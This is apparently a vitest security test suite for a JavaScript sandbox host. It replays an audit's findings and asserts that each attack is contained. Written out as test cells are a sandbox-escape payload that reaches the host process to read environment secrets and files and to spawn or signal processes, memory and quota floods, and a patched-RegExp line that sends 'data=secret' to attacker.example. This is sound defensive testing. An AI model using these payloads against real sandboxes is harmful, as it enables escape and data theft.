// Issue 11's findings, as an attacker runs them against the real `scv host` over real pipes: each
// test failed on the worker-thread sandbox (escapes reached the host's process and environment,
// one line of code aborted the whole host, memory and stores were unbounded, sessions shared
// workers, URL rules could be patched, a terminated busy cell kept burning CPU on Deno).
import { afterAll, describe, expect, test } from "vitest";
import { resolve } from "node:path";
import {
  execute,
  type Frame,
  hello,
  type HostProcess,
  killAllHosts,
  MAIN,
  open,
  ROOT,
  startFramedProcess,
  startHost,
  terminate,
  wait,
} from "../support/frame_client.ts";
import { HANG_MS, waitFor } from "../support/wait.ts";
import { childPids, cpuTicks, until } from "./helpers.ts";

afterAll(killAllHosts);

const SECRET = "scv-test-secret-4f1d";
const isDeno = "Deno" in globalThis;
const DENO = resolve(ROOT, "node_modules/.bin/deno");

/** A host whose frames are collected, so that several sessions can be driven at once. */
class Host {
  readonly process: HostProcess;
  readonly frames: Frame[] = [];
  #nextId = 100;

  constructor(env: Record<string, string> = {}, deno = false) {
    const vars = { SCV_TEST_SECRET: SECRET, ...env };
    const child = deno ? startFramedProcess(DENO, ["run", "-A", MAIN, "host"], vars) : startHost([], vars);
    this.process = child;
    const frames = this.frames;
    void (async () => {
      for (;;) {
        try {
          frames.push(await child.frames.next(600_000));
        } catch {
          return;
        }
      }
    })();
  }

  async ready(): Promise<void> {
    this.process.send(hello());
    await this.frame((f) => f.type === "connection/ready", 15_000);
  }

  async frame(match: (frame: Frame) => boolean, ms = 30_000): Promise<Frame> {
    let found: Frame | undefined;
    const ok = await until(() => (found = this.frames.find(match)) !== undefined, ms, 10);
    if (!ok)
      throw new Error(`no matching frame within ${ms} ms; got ${JSON.stringify(this.frames.slice(-5)).slice(0, 2000)}`);
    return found;
  }

  async open(sessionId: string, extra: Record<string, unknown> = {}): Promise<void> {
    const id = this.#nextId++;
    this.process.send(open(id, sessionId, extra));
    const frame = await this.frame((f) => f.id === id && f.type === "operation/response");
    expect(frame.result.value.type).toBe("session/ready");
  }

  /** Runs a cell to its initial response; returns the runtime response body and its kind. */
  /** A cell that must complete gets a yield time far beyond the hang deadline. */
  async execute(sessionId: string, source: string, yieldTimeMs: number | null = 2 * HANG_MS, ms = 3 * HANG_MS) {
    const id = this.#nextId++;
    this.process.send(execute(id, sessionId, source, { yieldTimeMs }));
    const frame = await this.frame((f) => f.id === id && f.type === "execute/initialResponse", ms);
    const kind = Object.keys(frame.result.value)[0]!;
    return { kind, body: frame.result.value[kind] as Frame };
  }

  async wait(sessionId: string, cellId: string, yieldTimeMs: number, ms = 60_000) {
    const id = this.#nextId++;
    this.process.send(wait(id, sessionId, cellId, yieldTimeMs));
    const frame = await this.frame((f) => f.id === id && f.type === "operation/response", ms);
    const value = frame.result.value;
    const outer = Object.keys(value.outcome)[0]!;
    const kind = Object.keys(value.outcome[outer])[0]!;
    return { kind, body: value.outcome[outer][kind] as Frame };
  }

  async terminate(sessionId: string, cellId: string) {
    const id = this.#nextId++;
    this.process.send(terminate(id, sessionId, cellId));
    return this.frame((f) => f.id === id && f.type === "operation/response");
  }

  /** The host still serves: a fresh session runs a cell. */
  async serves(sessionId: string): Promise<void> {
    await this.open(sessionId);
    const { kind, body } = await this.execute(sessionId, "text(6 * 7)");
    expect(kind).toBe("Result");
    expect(body.content_items).toEqual([{ type: "input_text", text: "42" }]);
    expect(body.error_text).toBeNull();
  }

  async close(): Promise<void> {
    this.process.closeStdin();
    const exit = await this.process.exit;
    expect(exit.signal).toBeNull();
    expect(exit.code).toBe(0);
  }
}

const texts = (body: Frame): string[] =>
  (body.content_items as { type: string; text?: string }[]).filter((i) => i.type === "input_text").map((i) => i.text!);

/**
 * Attacker code: recurses to the stack limit and, at every depth on the way back, triggers a
 * callback that the runtime runs on the cell's stack; any error that arrives is walked to its
 * realm's `process` and used. Reports what it reached.
 */
const TRIGGERS: Record<string, string> = {
  import: 'pending.push(import("x"));',
  stack: 'void new Error("x").stack;',
  capture: "const o = {}; Error.captureStackTrace(o); void o.stack;",
  prepare:
    'Error.prepareStackTrace = (e, sites) => sites.length; void new Error("x").stack; Error.prepareStackTrace = undefined;',
};
const ESCAPE = (route: string) => `
const reached = new Set();
const pending = [];
const use = (e) => {
  try {
    const F = e && e.constructor && e.constructor.constructor;
    if (typeof F !== "function") return;
    const p = F("return typeof process === 'object' ? process : null")();
    if (p === null || p === undefined) return;
    const env = JSON.stringify(p.env || {});
    reached.add("process env=" + (env.includes(${JSON.stringify(SECRET)}) ? "HOST-SECRET" : env.length));
    const get = p.getBuiltinModule || (F("return typeof require === 'function' ? require : null")());
    if (typeof get === "function") {
      try { get("fs").readFileSync("/etc/hostname"); reached.add("READ FILE") } catch {}
      try { get("child_process").spawnSync("true"); reached.add("SPAWNED") } catch {}
    }
    try { p.kill(p.ppid, 0); reached.add("SIGNALLED PARENT") } catch {}
  } catch {}
};
function deep(n) {
  try { deep(n + 1) } catch {}
  try { ${TRIGGERS[route]} } catch (e) { use(e) }
}
deep(0);
for (const p of pending) await p.catch(use);
await new Promise((r) => setTimeout(r, 50));
text([...reached].sort().join("; ") || "nothing");
`;

describe.concurrent("escapes at the stack limit (finding 1)", () => {
  for (const route of ["import", "stack", "capture", "prepare"]) {
    test(`${route}: the cell never reaches the host's process, environment, files or processes`, async () => {
      const host = new Host();
      await host.ready();
      await host.open("s1");
      const { kind, body } = await host.execute("s1", ESCAPE(route));
      expect(kind).toBe("Result");
      const [report] = texts(body);
      // Reaching the sandbox process's own realm is tolerated; it must hold nothing and allow nothing.
      expect(report).not.toMatch(/HOST-SECRET|READ FILE|SPAWNED|SIGNALLED PARENT/);
      if (report !== "nothing") expect(report).toMatch(/^process env=2$/);
      await host.serves("s2");
      await host.close();
    });
  }
});

describe.concurrent("memory (findings 3, 4)", () => {
  const cases: [string, string, number | null][] = [
    ["one large array at the default limit", "new Array(1e8).fill(0.5); text('survived')", null],
    ["one large array at 64 MiB", "new Array(1e8).fill(0.5); text('survived')", 64 * 1024 * 1024],
    ["a push loop at the default limit", "const a = []; for (;;) a.push(0.5)", null],
    ["a push loop at 64 MiB", "const a = []; for (;;) a.push(0.5)", 64 * 1024 * 1024],
    [
      "an ArrayBuffer flood under 16 MiB",
      "const keep = []; for (let i = 0; i < 200; i++) keep.push(new Uint8Array(16 << 20).fill(1)); text(keep.length)",
      16 * 1024 * 1024,
    ],
  ];
  for (const [name, source, limit] of cases) {
    test(`${name} fails the cell with the heap-limit text; the host and other sessions serve`, async () => {
      const host = new Host();
      await host.ready();
      await host.open("victim");
      await host.open("s1", limit === null ? {} : { cellExecutionLimits: { maxHeapSizeBytes: limit } });
      // A neighbour's cell is in flight meanwhile.
      const neighbour = host.execute("victim", "await new Promise((r) => setTimeout(r, 300)); text('neighbour')");
      const { kind, body } = await host.execute("s1", source);
      expect(kind).toBe("Result");
      expect(body.error_text).toBe(`exec cell heap limit exceeded (maxHeapSizeBytes: ${limit ?? 512 * 1024 * 1024})`);
      expect(texts((await neighbour).body)).toEqual(["neighbour"]);
      const next = await host.execute("s1", "text('next')");
      expect(texts(next.body)).toEqual(["next"]);
      await host.serves("s2");
      await host.close();
    });
  }
});

describe.concurrent("what a cell can make is charged (finding 5)", () => {
  test("store() floods hit the session's store quota, within a cell and across cells", async () => {
    const host = new Host();
    await host.ready();
    await host.open("s1");
    const one = await host.execute(
      "s1",
      "store('a', 'x'.repeat(40 << 20)); text('a'); store('b', 'x'.repeat(40 << 20)); text('b')",
    );
    expect(texts(one.body)).toEqual(["a"]);
    expect(one.body.error_text).toMatch(/^exec store quota exceeded: .*limit 67108864\)$/);
    // Nothing of a failed cell is committed; a cell that fits commits, and the next one is charged for it.
    expect(texts((await host.execute("s1", "store('a', 'x'.repeat(40 << 20)); text('stored')")).body)).toEqual([
      "stored",
    ]);
    const two = await host.execute("s1", "text(load('a').length); store('b', 'x'.repeat(40 << 20))");
    expect(texts(two.body)).toEqual([String(40 << 20)]);
    expect(two.body.error_text).toMatch(/^exec store quota exceeded/);
    // Overwriting a key is charged only for the difference.
    const three = await host.execute("s1", "store('a', 'y'.repeat(50 << 20)); text(load('a').length)");
    expect(three.body.error_text).toBeNull();
    await host.serves("s2");
    await host.close();
  });

  test("a thrown 256 Mi-character string is cut and charged", async () => {
    const host = new Host();
    await host.ready();
    await host.open("s1");
    for (let i = 0; i < 3; i++) {
      const { body } = await host.execute("s1", "throw 'x'.repeat(256 * 1024 * 1024)");
      expect(body.error_text.length).toBeLessThanOrEqual(1024 * 1024);
      expect(body.error_text.length).toBeGreaterThan(1000);
      expect(body.error_text.startsWith("xxxx")).toBe(true);
    }
    await host.serves("s2");
    await host.close();
  });
});

describe.concurrent("sessions are isolated (finding 6)", () => {
  test("a FinalizationRegistry left by one session never runs in another session's cells", async () => {
    const host = new Host();
    await host.ready();
    await host.open("a");
    const armed = await host.execute(
      "a",
      // The targets die in collections during this cell, so the registry has callbacks queued when it ends. Each
      // callback spins for good: one that ever ran in a cell of session b would hang that cell.
      "const r = new FinalizationRegistry(() => { for (;;) {} });" +
        "for (let i = 0; i < 5; i++) r.register({ i }, i);" +
        "let junk = []; for (let i = 0; i < 300; i++) junk.push(new Array(1e4).fill(i)); text('armed')",
    );
    expect(texts(armed.body)).toEqual(["armed"]);
    await host.open("b");
    for (let i = 0; i < 4; i++) {
      // Garbage, so that collections (and any finalizers they queue) happen during these cells.
      // The cell also waits a little, so that queued tasks (finalizers among them) get their turn.
      const { body } = await host.execute(
        "b",
        "let junk = []; for (let i = 0; i < 200; i++) junk.push(new Array(1e4).fill(i)); junk = null; await new Promise((r) => setTimeout(r, 50)); text('ok')",
      );
      expect(texts(body)).toEqual(["ok"]);
    }
    await host.close();
  });
});

describe.concurrent("the host checks what comes back (finding 7)", () => {
  test("a patched RegExp.prototype.exec gets no remote image or audio URL through", async () => {
    const host = new Host();
    await host.ready();
    await host.open("s1");
    const patch = "RegExp.prototype.exec = function () { return this.source.includes('data') ? ['data:'] : null };";
    const image = await host.execute(
      "s1",
      patch + "image('https://attacker.example/x.png?data=secret'); text('after')",
    );
    expect(image.body.content_items).toEqual([]);
    expect(image.body.error_text).toBe(
      "Tool call failed: remote image URLs are not supported in tool outputs. Pass a base64 data URI instead",
    );
    const audio = await host.execute("s1", patch + "audio('https://attacker.example/x.wav?data=secret')");
    expect(audio.body.content_items).toEqual([]);
    expect(audio.body.error_text).toBe("Tool call failed: invalid audio output. Pass a base64 data URI instead");
    const generated = await host.execute("s1", patch + "generatedImage({ image_url: 'http://attacker.example/y' })");
    expect(generated.body.content_items).toEqual([]);
    expect(texts((await host.execute("s1", "image('data:image/png;base64,AAAA'); text('fine')")).body)).toEqual([
      "fine",
    ]);
    await host.close();
  });
});

/**
 * The host's sandbox process that burns CPU (the one running a busy cell): the one child whose CPU time keeps
 * growing while the others' stops. A yielded cell makes the host boot a spare process, which burns CPU too until
 * it is ready, so this watches until one process has used more than twice what any other has since watching began.
 */
async function spinningProcess(host: Host): Promise<number> {
  const first = new Map<number, number>();
  return await waitFor(() => {
    const grown = childPids(host.process.child.pid).map((pid) => {
      const ticks = cpuTicks(pid) ?? 0;
      if (!first.has(pid)) first.set(pid, ticks);
      return [pid, ticks - first.get(pid)!] as const;
    });
    const most = Math.max(0, ...grown.map(([, ticks]) => ticks));
    // 100 ticks per second of a core; a busy machine may give a busy loop little of it.
    if (most < 10 || grown.filter(([, ticks]) => ticks > most / 2).length !== 1) return undefined;
    return grown.find(([, ticks]) => ticks === most)![0];
  }, { intervalMs: 200, what: "one sandbox process to stand out by the CPU it burns" });
}

describe("terminate stops a busy cell for good (finding 9, issue 16)", () => {
  const runtimes: [string, boolean][] = [
    ["Node", false],
    ["Deno", true],
  ];
  for (const [name, deno] of runtimes) {
    test.skipIf(isDeno && !deno)(
      `${name}: a terminated while(true){} uses no more CPU; the session runs its next cell`,
      async () => {
        const target = new Host({}, deno);
        await target.ready();
        await target.open("s1");
        const busy = await target.execute("s1", "while (true) {}", 300);
        expect(busy.kind).toBe("Yielded");
        const spinning = await spinningProcess(target);
        const answer = await target.terminate("s1", busy.body.cell_id);
        expect(Object.keys(answer.result.value.outcome.LiveCell)).toEqual(["Terminated"]);
        // The process that ran the busy loop is gone: it burns no more CPU.
        expect(await until(() => cpuTicks(spinning) === null)).toBe(true);
        expect(texts((await target.execute("s1", "text('next')")).body)).toEqual(["next"]);
        await target.close();
      },
    );
  }
});

describe("memory on Deno (issue 16)", () => {
  const cases: [string, string][] = [
    ["a push loop", "const a = []; for (;;) a.push(0.5)"],
    [
      "an ArrayBuffer flood",
      "const keep = []; for (let i = 0; i < 200; i++) keep.push(new Uint8Array(16 << 20).fill(1)); text(keep.length)",
    ],
  ];
  for (const [name, source] of cases) {
    test(`${name} at 64 MiB fails the cell with the heap-limit text; the host serves on`, async () => {
      const host = new Host({}, true);
      await host.ready();
      await host.open("s1", { cellExecutionLimits: { maxHeapSizeBytes: 64 * 1024 * 1024 } });
      const { kind, body } = await host.execute("s1", source);
      expect(kind).toBe("Result");
      expect(body.error_text).toBe(`exec cell heap limit exceeded (maxHeapSizeBytes: ${64 * 1024 * 1024})`);
      expect(texts((await host.execute("s1", "text('next')")).body)).toEqual(["next"]);
      await host.serves("s2");
      await host.close();
    });
  }
});

describe("a sandbox process killed mid-cell", () => {
  test("fails that cell; other sessions keep serving", async () => {
    const host = new Host();
    await host.ready();
    await host.open("other");
    expect(texts((await host.execute("other", "text('before')")).body)).toEqual(["before"]);
    await host.open("s1");
    const busy = await host.execute("s1", "text('spinning'); while (true) {}", 300);
    expect(busy.kind).toBe("Yielded");
    process.kill(await spinningProcess(host), "SIGKILL");
    const ended = await host.wait("s1", busy.body.cell_id, HANG_MS);
    expect(ended.kind).toBe("Result");
    expect(ended.body.error_text).toBe("exec runtime ended unexpectedly");
    expect(texts((await host.execute("other", "text('after')")).body)).toEqual(["after"]);
    expect(texts((await host.execute("s1", "text('s1 again')")).body)).toEqual(["s1 again"]);
    await host.close();
  });
});
